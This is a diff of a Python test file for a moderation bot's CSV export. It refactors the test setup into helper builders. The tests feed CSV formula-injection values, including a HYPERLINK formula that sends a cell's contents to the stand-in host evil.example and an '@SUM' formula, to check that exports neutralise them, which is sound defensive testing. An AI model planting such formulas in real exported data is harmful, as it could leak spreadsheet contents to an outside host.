@@ -12,10 +12,10 @@ from bot.__main__ import main
 from bot.csvsafe import safe_cell
 from bot.services.stats import build_report, export_csv
 from bot.storage.cases import CaseRepository
-from bot.storage.communities import CommunityRepository
 from bot.storage.db import Database
 from bot.storage.growth import GrowthRepository
 from bot.timeutil import epoch_now
+from tests.builders import add_supergroup, open_pile_on_case, opened_db
 from tests.unit.test_growth_report import CHAT, DAY, UNTIL, seed_month
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
@@ -64,38 +64,12 @@ async def test_stats_csv_neutralises_titles_and_campaign_names(tmp_path: Path) -
 
 def test_cases_csv_neutralises_names(tmp_path: Path) -> None:
     async def seed() -> None:
-        db = Database(tmp_path / "steward.db")
-        await db.open()
-        try:
-            await CommunityRepository(db).upsert(
-                chat_id=CHAT,
-                title=FORMULA,
-                type="supergroup",
-                is_forum=False,
-                username=None,
-                timezone="UTC",
-                language="en",
-            )
+        async with opened_db(tmp_path / "steward.db") as db:
+            await add_supergroup(db, CHAT, FORMULA)
             cases = CaseRepository(db)
             now = epoch_now()
-            await cases.open(
-                chat_id=CHAT,
-                thread_key="m:1",
-                topic_id=None,
-                shadow=False,
-                reasons=["pile_on"],
-                detail="x",
-                keyword=None,
-                severity=0.75,
-                negative_members=3,
-                first_message_id=1,
-                last_message_id=1,
-                message_count=1,
-                at=now - 600,
-            )
+            await open_pile_on_case(cases, CHAT, "m:1", message_id=1, at=now - 600)
             await cases.answer(1, 500, "@SUM(A1:A9)", now - 300, note=None)
-        finally:
-            await db.close()
 
     asyncio.run(seed())
     config = tmp_path / "steward.toml"
